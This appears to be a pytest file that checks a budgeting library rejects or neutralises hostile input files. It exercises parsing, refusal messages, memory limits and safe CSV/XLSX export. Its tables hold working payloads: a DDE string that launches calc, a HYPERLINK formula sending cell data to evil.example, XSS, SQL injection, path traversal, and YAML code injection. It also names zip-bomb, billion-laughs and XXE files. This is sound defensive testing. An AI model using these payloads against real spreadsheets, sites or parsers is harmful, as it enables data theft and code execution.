"""Every file of ../shared/hostile gets the behaviour that its row in INDEX.csv asks for; a row without a test fails."""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
import sys
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from aop_lib.cli import app
from aop_lib.errors import InputRefusedError
from aop_lib.load import load
from aop_lib.report.exports import read_csv, write_csv, write_xlsx
from aop_lib.sources.submissions import Submissions, submissions
from aop_lib.sources.table import Faults
from aop_lib.sources.workbook_in import workbook_table

COMPANY = Path(__file__).parent / "company"
HOSTILE = Path(__file__).parent.parent.parent.parent / "shared" / "hostile"
ACCOUNTS = {"6000", "6010"}
SECONDS, MEGABYTES = 2, 300

BOTH = [("1200.50", "ok"), ("800.00", "ok")]

# file: amounts and comments of the lines that count, exactly
ACCEPTED: dict[str, list[tuple[str, str]]] = {
    "A00_formula.csv": [("1200.50", "=1+1")],
    "A01_formula.csv": [("1200.50", "=cmd|'/c calc'!A1")],
    "A02_formula.csv": [("1200.50", "+1+1|x")],
    "A03_formula.csv": [("1200.50", "-2+3+cmd")],
    "A04_formula.csv": [("1200.50", "@SUM(1)")],
    "A05_formula.csv": [("1200.50", "\t=1+1")],
    "A09_formula.csv": [("1200.50", '=HYPERLINK("http://evil.example/?"&A1,"x")')],
    "A11_formula.csv": [("1200.50", ";=1+1")],
    "A12_formula.csv": [("1200.50", '"=1+1')],
    "A13_formula.csv": [("1200.50", "%3D1+1")],
    "A15_formula.csv": [("1200.50", "|=1")],
    "C02_hidden_sheet_row_col.xlsx": BOTH,
    "D01_num.csv": [("1234.56", "ok")],
    "D27_num.csv": [("0.10", "ok")],
    "E11_key.csv": [("1200.50", "ok")],
    "E20_key.csv": [("1200.50", "<img src=x onerror=alert(1)>")],
    "E21_key.csv": [("1200.50", "[x](javascript:alert(1))")],
    "E24_key.csv": [("1200.50", "'; DROP TABLE requests; --")],
    "F01_utf8_bom.csv": BOTH,
    "F02_utf16.csv": BOTH,
    "F04_semicolon.csv": BOTH,
    "Z00_valid.csv": BOTH,
    "Z01_valid.xlsx": BOTH,
}

# file: for each fault that must be named, the place (after the file's name) and what is said there
REFUSED: dict[str, list[tuple[str, str]]] = {
    "A20_formula.xlsx": [("!Request!A2", "formula without stored value"), ("!Request!G2", "formula without stored value")],
    "B01_bomb_sheet.xlsx": [("", "300,017,516 bytes once unpacked; expected at most 50,000,000")],
    "B02_billion_laughs.xlsx": [("", "a DTD")],
    "B03_xxe.xlsx": [("", "a DTD")],
    "B06_huge_dims.xlsx": [("", "a cell at XFD1048576")],
    "B08_not_xlsx.xlsx": [("", "no workbook")],
    "B09_truncated.xlsx": [("", "truncated")],
    "B10_empty.xlsx": [("", "0 bytes")],
    "B11_ole_encrypted.xlsx": [("", "password-protected")],
    "C01_merged.xlsx": [("!Request!A4", "merged cells A3:A4")],
    "C03_formula_no_cache.xlsx": [("!Request!E2", "formula without stored value"), ("!Request!E3", "formula without stored value")],
    "C04_error_cells.xlsx": [("!Request!E2", "'#REF!'"), ("!Request!E3", "'#DIV/0!'")],
    "C05_total_row.xlsx": [("!Request!A4", "a total row")],
    "C07_dup_header.xlsx": [("!Request!F1", "the column 'amount' 2 times")],
    "C08_missing_col.xlsx": [("!Request!A1", "no column 'amount'"), ("!Request!E1", "a column 'Betrag'")],
    "D00_num.csv": [(":2", "amount '1.234,56'")],
    "D02_num.csv": [(":2", "amount '(1,234.56)'")],
    "D03_num.csv": [(":2", "amount '$1200'")],
    "D04_num.csv": [(":2", "amount '1 234,56'")],
    "D06_num.csv": [(":2", "amount '1e308'")],
    "D07_num.csv": [(":2", "amount '1e400'")],
    "D08_num.csv": [(":2", "amount 'NaN'")],
    "D09_num.csv": [(":2", "amount 'inf'")],
    "D11_num.csv": [(":2", "no amount")],
    "D12_num.csv": [(":2", "amount 'N/A'")],
    "D17_num.csv": [(":2", "amount '1_000'")],
    "D18_num.csv": [(":2", "amount '1,23'")],
    "D20_num.csv": [(":2", "amount '99999999999999999999'")],
    "D22_num.csv": [(":2", "amount 'TRUE'")],
    "D26_num.csv": [(":2", "amount '−1200'")],
    "D28_num.csv": [(":2", "amount '1200.005'")],
    "D40_text_number.xlsx": [("!Request!E3", "amount 'TRUE'")],
    "E00_key.csv": [(":2", "month '2026-13'")],
    "E01_key.csv": [(":2", "month '01/02/2026'")],
    "E02_key.csv": [(":2", "month 'Jan-26'")],
    "E04_key.csv": [(":2", "month '2026-02-30'")],
    "E07_key.csv": [(":2", "currency 'usd'; expected one of USD (did you mean 'USD'?)")],
    "E08_key.csv": [(":2", "currency 'XXX'")],
    "E09_key.csv": [(":2", "no currency")],
    "E10_key.csv": [(":2", "no team")],
    "E12_key.csv": [(":2", "team 'Sales '")],
    "E13_key.csv": [(":2", "team 'Ѕales' (with U+0405")],
    "E15_key.csv": [(":2", "team '../../etc/passwd'")],
    "E18_key.csv": [(":2", r"team 'Sales\x00X'")],
    "E19_key.csv": [(":2", "team '<script>alert(1)</script>'")],
    "E25_key.csv": [(":2", "team 'x\" (a int); DROP TABLE requests; --'")],
    "E27_key.csv": [(":2", "account '0600'")],
    "E30_key.csv": [(":2", "team 'NA'")],
    "E40_dup_rows.csv": [(":3", "the same row"), (":2", "first at")],
    "E41_dup_key.csv": [(":3", "a second amount, 99.00 after 1200.50")],
    "E42_foreign_team.csv": [(":3", "a file may hold only its own team")],
    "F05_nul.csv": [(":2", r"amount '12\x0000'")],
    "F06_ragged_more.csv": [(":2", "8 fields; expected 7")],
    "F08_open_quote.csv": [(":2", "a quote that opens in this row and never closes")],
}

EMPTY = {"F10_header_only.csv"}

# parameter files: what is said about them
PARAMETERS: dict[str, list[str]] = {
    "G01_unsafe_tag.yaml": [":1: found the tag"],
    "G02_dup_key.yaml": [":3: found 'growth' a second time"],
    "G03_alias_bomb.yaml": [":1: found &a; expected no anchors or aliases"],
    "G04_norway.yaml": ["the key 'region'", "the key 'currency'", "the key 'team'", "the key 'version'", "the key 'clock'"],
    "G05_date.yaml": [":1: found '2026-02-30'", ":2: found '2026-06-31'"],
    "G06_traversal.yaml": [":1: found '../../../../escape'; expected a cycle id"],
    "G07_nan.yaml": [":1: found '.nan'", ":2: found '.inf'", ":3: found '1e309'"],
    "G09_param_name.yaml": [":1: found the key \"open('PWN','w');z\"; expected a plain name"],
}


@pytest.fixture
def company(tmp_path: Path, shared: Path) -> Path:
    """A copy of the small company that takes the files."""
    assert (shared / "hostile").is_dir()
    return Path(shutil.copytree(COMPANY, tmp_path / "company"))


def dropped(name: str, company: Path, team: str = "sales") -> Path:
    """Returns the cycle's file after a hostile file was dropped into a team's folder."""
    target = company / "requests" / team / name
    shutil.copyfile(HOSTILE / name, target)
    return company / "fy2026.yml"


def read(cycle: Path) -> Submissions:
    """Returns what teams have handed in."""
    return submissions(load(cycle), ACCOUNTS, {})


def state(found: Submissions, team: str = "sales") -> str:
    """Returns where a team stands."""
    return next(each.state for each in found.teams if each.team == team)


def test_every_file_of_the_index_has_its_test(shared: Path) -> None:
    with (shared / "hostile" / "INDEX.csv").open(encoding="utf-8") as stream:
        listed = {row["file"] for row in csv.DictReader(stream) if not row["file"].startswith("xss/")}
    assert listed == {*ACCEPTED, *REFUSED, *EMPTY, *PARAMETERS}


@pytest.mark.parametrize("name", ACCEPTED)
def test_an_accepted_file_is_read_to_the_cent_and_to_the_letter(name: str, company: Path) -> None:
    found = read(dropped(name, company))
    lines = [line for request in found.asked for option in request.options for line in option.lines]
    assert [(line.amount, line.comment) for line in lines] == [(Decimal(amount), comment) for amount, comment in ACCEPTED[name]]
    assert [option.id for request in found.asked for option in request.options] == ["full"]
    assert (found.faults, state(found)) == ((), "submitted")
    frame = found.request_lines.sort_values("where")
    assert list(frame["amount"]) == [Decimal(amount) for amount, _ in ACCEPTED[name]]
    assert list(frame["comment"]) == [comment for _, comment in ACCEPTED[name]]
    assert set(frame["team"]) == {"sales"}


@pytest.mark.parametrize("name", REFUSED)
def test_a_refused_file_says_where_and_what_and_its_team_is_missing_not_zero(name: str, company: Path) -> None:
    dropped("Z00_valid.csv", company)
    found = read(dropped(name, company))
    told = [str(fault) for fault in found.faults]
    for place, text in REFUSED[name]:
        assert any(f"requests/sales/{name}{place}" in line and text in line for line in told), told
    assert all(name in line for line in told)
    assert (state(found), len(found.request_lines), len(found.requests)) == ("refused", 0, 0)
    assert found.good == ("company/requests/sales/Z00_valid.csv",)
    row = found.submissions.set_index("team").loc["sales"]
    assert (row["state"], name in row["note"], "Z00_valid.csv" in row["note"]) == ("refused", True, True)


@pytest.mark.parametrize("name", [*ACCEPTED, *EMPTY, *REFUSED])
def test_check_refuses_what_must_be_refused_and_accepts_the_rest(name: str, company: Path) -> None:
    before = tree(company.parent)
    cycle = dropped(name, company)
    result = CliRunner().invoke(app, ["check", str(cycle)])
    assert result.exit_code == (2 if name in REFUSED else 0), result.output
    for place, text in REFUSED.get(name, []):
        assert any(f"{name}{place}" in line and text in line for line in result.output.splitlines()), result.output
    assert "root:" not in result.output
    assert tree(company.parent) - before == {f"company/requests/sales/{name}"}


def tree(folder: Path) -> set[str]:
    """Returns the files below a folder."""
    return {file.relative_to(folder).as_posix() for file in folder.rglob("*") if file.is_file()}


@pytest.mark.parametrize("name", EMPTY)
def test_a_header_without_rows_is_submitted_and_empty_not_missing(name: str, company: Path) -> None:
    found = read(dropped(name, company))
    assert (state(found), state(found, "engineering"), found.faults) == ("submitted_empty", "missing", ())
    assert "sent an empty file: sales" in CliRunner().invoke(app, ["check", str(company / "fy2026.yml")]).output


def test_hidden_rows_and_columns_are_named_and_a_hidden_sheet_is_not_read(company: Path) -> None:
    found = read(dropped("C02_hidden_sheet_row_col.xlsx", company))
    told = [str(warning) for warning in found.warnings]
    for place, text in (("!Request!3:3", "a hidden row"), ("!Request!E:E", "a hidden column"), ("!Old", "a hidden sheet, which is not read")):
        assert any(place in line and text in line for line in told), told


def test_one_teams_broken_file_does_not_touch_another_team(company: Path) -> None:
    shutil.copyfile(HOSTILE / "Z00_valid.csv", company / "requests" / "engineering" / "ours.csv")
    text = (company / "requests" / "engineering" / "ours.csv").read_text().replace("Sales", "Engineering")
    (company / "requests" / "engineering" / "ours.csv").write_text(text)
    found = read(dropped("B09_truncated.xlsx", company))
    assert (state(found), state(found, "engineering")) == ("refused", "submitted")
    assert sum(found.request_lines["amount"]) == Decimal("2000.50")


def test_a_text_number_in_a_workbook_is_taken_exactly(company: Path) -> None:
    told = [str(fault) for fault in read(dropped("D40_text_number.xlsx", company)).faults]
    assert not any("!E2" in line for line in told)


def test_a_team_called_na_is_a_team_and_not_a_missing_value(company: Path) -> None:
    text = (company / "company.yml").read_text(encoding="utf-8")
    (company / "company.yml").write_text(text.replace("    name: Sales\n", "    name: NA\n"), encoding="utf-8")
    found = read(dropped("E30_key.csv", company))
    assert (found.faults, state(found)) == ((), "submitted")


def test_an_account_with_a_leading_zero_keeps_it(company: Path) -> None:
    text = (company / "company.yml").read_text(encoding="utf-8")
    (company / "company.yml").write_text(text.replace('"6000"', '"0600"'), encoding="utf-8")
    found = submissions(load(dropped("E27_key.csv", company)), {"0600"}, {})
    assert list(found.request_lines["account"]) == ["0600"]


@pytest.mark.parametrize("name", [name for name in ACCEPTED if name[0] in "AE"])
def test_what_is_written_is_text_that_no_program_runs_and_reads_back_as_it_was(name: str, company: Path, tmp_path: Path) -> None:
    frame = read(dropped(name, company)).request_lines.assign(amount_local=[Decimal("-5.25")])
    comment = frame["comment"].iloc[0]
    write_csv(frame, tmp_path / "out.csv")
    write_xlsx(frame, tmp_path / "out.xlsx", "=1+1")
    assert read_csv(tmp_path / "out.csv")["comment"].iloc[0] == comment
    raw = list(csv.reader((tmp_path / "out.csv").open(encoding="utf-8-sig", newline="")))
    for separator in ",;|\t":
        cells = [part.strip(' "') for part in ";".join(raw[1]).replace(";", separator).split(separator) if part]
        assert not any(part[0] in "=+-@\t\r" for part in cells if part and part != "-5.25"), cells
    page = load_workbook(tmp_path / "out.xlsx").active
    cells = {page.cell(1, column).value: page.cell(2, column) for column in range(1, page.max_column + 1)}
    assert (cells["comment"].value, cells["comment"].data_type) == (comment, "s")
    assert (cells["amount_local"].value, cells["amount_local"].data_type) == (-5.25, "n")
    table = workbook_table((tmp_path / "out.xlsx").read_bytes(), Faults("out.xlsx"))
    assert table
    assert comment in [cell.text for cell in table.rows[0]]


MEASURED = """
import json, resource, sys
from aop_lib.load import load
from aop_lib.sources.submissions import submissions
found = submissions(load(sys.argv[1]), {"6000", "6010"}, {})
use = resource.getrusage(resource.RUSAGE_SELF)
try:
    peak = int(open("/proc/self/status").read().split("VmHWM:")[1].split()[0])  # what getrusage says includes the process that started this one
except OSError:
    peak = use.ru_maxrss
print(json.dumps({"faults": len(found.faults), "seconds": use.ru_utime + use.ru_stime, "megabytes": peak / 1024}))
"""


def measured(cycle: Path) -> dict[str, Any]:
    """Returns faults, processor seconds and peak memory of a process that reads what teams have handed in."""
    done = subprocess.run([sys.executable, "-c", MEASURED, str(cycle)], capture_output=True, text=True, timeout=60, check=True)
    return dict(json.loads(done.stdout))


@pytest.mark.parametrize("name", [name for name in REFUSED if name.startswith("B")])
def test_an_archive_is_refused_within_two_seconds_and_300_megabytes(name: str, company: Path) -> None:
    got = measured(dropped(name, company))
    assert got["faults"] == 1
    assert got["seconds"] < SECONDS
    assert got["megabytes"] < MEGABYTES


@pytest.mark.parametrize("name", PARAMETERS)
def test_a_parameter_file_is_refused_for_the_fault_it_has(name: str, tmp_path: Path, shared: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    shutil.copyfile(shared / "hostile" / name, tmp_path / name)
    with pytest.raises(InputRefusedError) as refused:
        load(tmp_path / name)
    for text in PARAMETERS[name]:
        assert text in str(refused.value)
    result = CliRunner().invoke(app, ["check", name])
    assert result.exit_code == 2
    assert all(text in result.output for text in PARAMETERS[name])
    assert {file.name for file in tmp_path.iterdir()} == {name}
